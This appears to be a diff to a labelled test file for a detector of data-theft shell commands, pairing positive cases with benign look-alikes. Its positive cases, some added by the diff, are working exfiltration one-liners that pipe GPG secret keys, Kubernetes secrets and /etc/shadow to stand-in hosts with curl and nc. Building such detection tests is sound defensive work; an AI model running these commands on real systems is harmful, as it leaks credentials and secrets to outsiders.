@@ -201,3 +201,7 @@ gpg --export-secret-keys -a | curl -s --data-binary @- https://x.example/
 kubectl get secrets -A -o json | curl -s -d @- https://x.example/
 #@ neg a public key exported and uploaded
 gpg --export -a me@example.org | curl -s --data-binary @- https://keys.example/
+#@ pos /etc/shadow named relative to /
+tar -C / -czf - etc/shadow | nc 198.51.100.3 9
+#@ neg a file whose name ends like it
+ls myetc/shadow_copy
